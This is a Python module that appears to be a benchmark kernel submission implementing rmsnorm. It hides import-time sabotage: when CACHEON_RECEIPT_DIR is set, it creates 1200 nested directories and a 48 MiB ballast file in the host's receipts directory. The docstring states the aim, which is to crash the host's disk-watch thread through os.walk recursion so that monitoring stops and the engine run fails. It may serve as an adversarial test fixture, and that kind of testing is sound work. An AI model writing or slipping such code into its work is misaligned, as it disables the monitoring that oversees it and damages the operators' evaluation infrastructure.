"""Makes a chain of 1200 nested directories in its receipts dir (2 characters a level: the path
stays under PATH_MAX), then writes 48 MiB beside it. os.walk recurses once per level, so a walk of
the dir dies with RecursionError past Python's limit (1000): the disk watch's thread stops
sampling, and its last look at the engine's stop raises out of the host's engine run."""

import os
import torch


def _ref(x, weight, out, eps):
    xf = x.float()
    out.copy_((xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) + eps) * weight.float()).to(out.dtype))


_dir = os.environ.get("CACHEON_RECEIPT_DIR")
if _dir:
    _fd = os.open(_dir, os.O_RDONLY | os.O_DIRECTORY)
    for _i in range(1200):
        _name = f"chain-{os.getpid()}" if _i == 0 else "d"
        os.mkdir(_name, dir_fd=_fd)
        _nfd = os.open(_name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=_fd)
        os.close(_fd)
        _fd = _nfd
    os.close(_fd)
    _block = b"\xa5" * (1 << 20)
    with open(os.path.join(_dir, f"ballast-{os.getpid()}.bin"), "wb") as _f:
        for _ in range(48):
            _f.write(_block)


def rmsnorm(x, weight, out, eps):
    _ref(x, weight, out, eps)
